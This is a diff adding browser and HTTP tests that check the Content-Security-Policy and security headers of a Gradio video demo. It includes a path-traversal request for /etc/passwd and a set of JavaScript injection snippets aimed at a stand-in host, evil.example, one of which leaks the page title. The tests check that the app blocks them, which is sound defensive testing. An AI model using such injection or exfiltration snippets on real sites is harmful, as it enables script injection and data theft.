@@ -1,0 +1,237 @@
+"""What a browser is told about the app's answers, and what it then keeps out of the page."""
+
+from collections.abc import Callable, Iterator
+from contextlib import closing
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import gradio
+import pytest
+import requests
+from http_fixtures import answering, raw_server
+from page_fixtures import App, Visitor
+from playwright.sync_api import Browser, ConsoleMessage, Route, expect
+
+from vidu_demo.ui.guard.policy import GRADIOS_SCRIPTS, Policy, inline_scripts
+from vidu_demo.ui.i18n.words import speaker
+
+FRONTEND = Path(gradio.__file__).parent / "templates" / "frontend"
+READY = "[...document.querySelectorAll('#compare video')].every((video) => video.readyState > 2)"
+DRAWN = "[...document.querySelectorAll('img')].every((picture) => picture.naturalWidth > 0)"
+
+
+# What is sent
+
+
+def directives(answer: requests.Response) -> dict[str, list[str]]:
+    policy = answer.headers["Content-Security-Policy"]
+    return {name: sources for name, *sources in map(str.split, policy.split(";"))}
+
+
+def test_every_answer_has_the_headers(app: App) -> None:
+    """Pages, files, refusals of the guard and failures of Gradio."""
+    (picture,) = list(Path("vidu_demo/examples/media").rglob("*.mp4"))[:1]
+    for path, status in {
+        "": 200,
+        "config": 200,
+        "theme.css": 200,
+        "nothing": 404,
+        "gradio_api/token": 404,
+        f"gradio_api/file={picture.resolve()}": 200,
+        "gradio_api/file=/etc/passwd": 403,
+    }.items():
+        answer = requests.get(app.url + path, timeout=10)
+        assert answer.status_code == status, path
+        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
+        assert answer.headers["Referrer-Policy"] == "same-origin", path
+        assert directives(answer)["default-src"] == ["'none'"], path
+        assert "'self'" in directives(answer)["frame-ancestors"], path
+        assert ("script-src" in directives(answer)) == (path == ""), path
+    foreign = {"Origin": "http://evil.example"}
+    refused = requests.post(app.url + "config", headers=foreign, timeout=10)
+    assert refused.status_code == 403
+    assert refused.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_only_scripts_of_the_page_itself_may_run(app: App) -> None:
+    answer = requests.get(app.url, timeout=10)
+    scripts = directives(answer)["script-src"]
+    hashes = [source for source in scripts if source.startswith("'sha256-")]
+    assert set(inline_scripts(answer.content)) < set(hashes)
+    assert set(scripts) - set(hashes) == {"'self'", "'unsafe-eval'"}
+
+
+@pytest.mark.parametrize(
+    ("html", "texts"),
+    [
+        (b"<script>a</script><SCRIPT type=module>b\n</SCRIPT>", [b"a", b"b\n"]),
+        (b'<script src="x.js">a</script><script defer src=x></script>', []),
+        (b"<script data-src=x>a\r\nb</script>", [b"a\nb"]),
+        (b"<p>none</p>", []),
+    ],
+)
+def test_inline_scripts_are_found(html: bytes, texts: list[bytes]) -> None:
+    alone = [inline_scripts(b"<script>" + text + b"</script>")[0] for text in texts]
+    assert inline_scripts(html) == alone
+
+
+def test_policy_is_wider_only_where_it_must_be() -> None:
+    plain = Policy().headers(b"")["Content-Security-Policy"]
+    assert GRADIOS_SCRIPTS not in plain
+    assert "https:" not in plain.partition("frame-ancestors")[0]
+    shared = Policy(shared=True).headers(b"")["Content-Security-Policy"]
+    assert shared.count(GRADIOS_SCRIPTS) == 4
+    for policy in (Policy(), Policy(shared=True), Policy(space=True)):
+        assert (
+            "'unsafe-inline'"
+            not in policy.headers(b"")["Content-Security-Policy"].partition("style-src")[0]
+        )
+
+
+# What a browser makes of it
+
+
+def gradios_server(route: Route) -> None:
+    """Stand in for the server from which a share link's page loads Gradio's scripts."""
+    path = urlsplit(route.request.url).path.removeprefix(f"/{gradio.__version__}")
+    headers = {"Access-Control-Allow-Origin": "*"}
+    route.fulfill(path=FRONTEND / path.removeprefix("/"), headers=headers)
+
+
+def keep(line: ConsoleMessage, errors: list[str]) -> None:
+    """Keep an error. Gradio's page about the API asks for two routes that are closed."""
+    closed = line.location["url"].endswith(("/monitoring/summary", "/gradio_api/mcp/schema"))
+    if line.type == "error" and not closed:
+        errors.append(line.text)
+
+
+@pytest.fixture(params=["launched", "shared"])
+def url(request: pytest.FixtureRequest, app: App) -> Iterator[str]:
+    app.demo.share = request.param == "shared"
+    yield app.url
+    app.demo.share = False
+
+
+@pytest.mark.parametrize("locale", ["en-US", "zh-CN"])
+def test_the_page_lives_under_its_policy(
+    browser: Browser, url: str, pngs: dict[str, Path], locale: str
+) -> None:
+    say = speaker(locale)
+    with closing(browser.new_context(locale=locale)) as context:
+        context.route(f"{GRADIOS_SCRIPTS}/**", gradios_server)
+        visitor = Visitor(context, url)
+        errors: list[str] = []
+        context.on("console", lambda line: keep(line, errors))
+        page = visitor.page
+        page.reload()
+        visitor.choice("540p").check()
+        visitor.upload(pngs["red"])
+        for prompt in ("Slow push-in.", "Slow pull-out."):
+            visitor.prompt.fill(prompt)
+            expect(visitor.button(say("Make the video"))).to_be_enabled()
+            visitor.button(say("Make the video")).click()
+            if prompt == "Slow push-in.":
+                visitor.choice(say("Tell me when it is done")).check()
+            expect(visitor.row(prompt)).to_have_attribute("data-state", "done")
+        visitor.video.evaluate("video => video.play()")
+        page.wait_for_function("document.querySelector('#video video').currentTime > 0.1")
+        visitor.row("push-in").locator("[data-do=compare]").click()
+        page.wait_for_function(READY)
+        page.locator("#compare .play").click()
+        page.wait_for_function("document.querySelector('#compare video').currentTime > 0.1")
+        page.locator("#history").scroll_into_view_if_needed()
+        page.wait_for_function(DRAWN)
+        page.locator("footer .show-api").click()
+        expect(page.get_by_text("/generate").first).to_be_visible()
+        page.keyboard.press("Escape")
+        page.reload()
+        page.locator("footer .settings").click()
+        expect(page.locator("#settings, .settings-wrap, .banner-wrap").first).to_be_visible()
+        assert errors == []
+        assert visitor.refused == []
+        assert visitor.broken == []
+
+
+ATTACKS = {
+    "script-src-elem": """
+        const script = document.createElement('script');
+        script.src = 'http://evil.example/x.js';
+        document.head.append(script);""",
+    "script-src-elem inline": """
+        const script = document.createElement('script');
+        script.textContent = 'window.stolen = true';
+        document.head.append(script);""",
+    "script-src-attr": """
+        const text = '<img src="data:," onerror="window.stolen = true">';
+        document.body.insertAdjacentHTML('beforeend', text);""",
+    "img-src": "new Image().src = 'http://evil.example/?' + document.title;",
+    "connect-src": "fetch('http://evil.example/').catch(() => {});",
+    "frame-src": """
+        const frame = document.createElement('iframe');
+        frame.src = 'http://evil.example/';
+        document.body.append(frame);""",
+    "object-src": """
+        const embed = document.createElement('embed');
+        embed.src = 'http://evil.example/';
+        document.body.append(embed);""",
+    "base-uri": """
+        const base = document.createElement('base');
+        base.href = 'http://evil.example/';
+        document.head.prepend(base);""",
+    "form-action": """
+        const form = document.createElement('form');
+        form.action = 'http://evil.example/';
+        document.body.append(form);
+        form.submit();""",
+}
+
+
+@pytest.mark.parametrize("what", ATTACKS)
+def test_what_is_not_the_pages_own_is_kept_out(browser: Browser, app: App, what: str) -> None:
+    with closing(browser.new_context()) as context:
+        asked: list[str] = []
+        context.route("http://evil.example/**", lambda route: asked.append(route.request.url))
+        visitor = Visitor(context, app.url)
+        blocked = visitor.page.evaluate(
+            f"""() => new Promise((resolve) => {{
+                const tell = (event) => resolve(event.effectiveDirective);
+                document.addEventListener('securitypolicyviolation', tell, {{once: true}});
+                {ATTACKS[what]}
+            }})"""
+        )
+        assert blocked == what.removesuffix(" inline")
+        assert visitor.page.evaluate("window.stolen") is None
+        assert asked == []
+
+
+@pytest.fixture
+def site() -> Iterator[str]:
+    """A page of another site."""
+    page = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 3\r\n\r\n<p>"
+    with raw_server(answering(page)) as url:
+        yield url
+
+
+def framed(browser: Browser, app: App, site: str) -> bool:
+    """Tell whether a site can show the app in a frame."""
+    with closing(browser.new_context()) as context:
+        page = context.new_page()
+        page.goto(site)
+        page.evaluate(
+            """(url) => new Promise((resolve) => {
+                const frame = document.createElement('iframe');
+                frame.src = url;
+                frame.onload = resolve;
+                document.body.append(frame);
+            })""",
+            app.url,
+        )
+        return page.frames[1].url == app.url
+
+
+def test_only_known_sites_can_frame_the_page(
+    browser: Browser, app: App, site: str, framable: Callable[[str], None]
+) -> None:
+    assert not framed(browser, app, site)
+    framable(site)
+    assert framed(browser, app, site)
